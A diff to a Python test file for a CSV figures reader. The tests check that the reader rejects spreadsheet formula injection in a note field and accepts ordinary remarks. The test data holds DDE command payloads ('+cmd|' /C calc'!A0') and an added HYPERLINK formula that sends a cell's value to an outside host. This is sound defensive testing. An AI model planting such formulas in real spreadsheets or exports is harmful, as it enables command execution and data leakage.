@@ -23,8 +23,8 @@ from giaouoc.engine.findings import Finding, Refusal
 from giaouoc.engine.periods import Window
 from giaouoc.exchange import figures_file
 from giaouoc.exchange.figures_cells import tidy
-from giaouoc.exchange.figures_file import append_rows, read_figures, read_rows, write_figures
-from tests.exchange.sample_case import row, rows, spoken
+from giaouoc.exchange.figures_file import read_figures, read_rows, write_figures
+from tests.exchange.sample_case import append_rows, row, rows, spoken
 
 HEADER = ",".join(COLUMNS)
 
@@ -131,6 +131,7 @@ def test_line_ends_blank_lines_and_quotes_do_not_matter() -> None:
         ({"note": "@SUM(A1)"}, "case_file.formula", "note"),
         ({"note": "+cmd|' /C calc'!A0"}, "case_file.formula", "note"),
         ({"note": "-2+3+cmd|' /C calc'!A0"}, "case_file.formula", "note"),
+        ({"note": '+1+HYPERLINK("http://x.vn/"&A1,"xem")'}, "case_file.formula", "note"),
         ({"corrects": "0"}, "case_file.not-an-entry-number", "corrects"),
         ({"recorded_at": "yesterday"}, "case_file.not-an-instant", "recorded_at"),
         ({"recorded_at": "2025-07-01"}, "case_file.not-an-instant", "recorded_at"),
@@ -144,7 +145,9 @@ def test_a_wrong_cell_is_named_with_row_and_column(
     assert told(text) == [(code, 3, column)]
 
 
-@pytest.mark.parametrize("note", ["-33 so với năm trước", "+5 %", "- chưa rõ", "–14,2 %", "a=b", "x@y.vn"])
+@pytest.mark.parametrize(
+    "note", ["-33 so với năm trước", "+5 %", "- chưa rõ", "-3 vụ (giảm)", "–14,2 %", "a=b", "x@y.vn"]
+)
 def test_a_remark_that_only_looks_like_arithmetic_is_taken(note: str) -> None:
     assert read_figures(write_figures([row(1, value="1", note=note)]))[1].entry(1).note == note
 
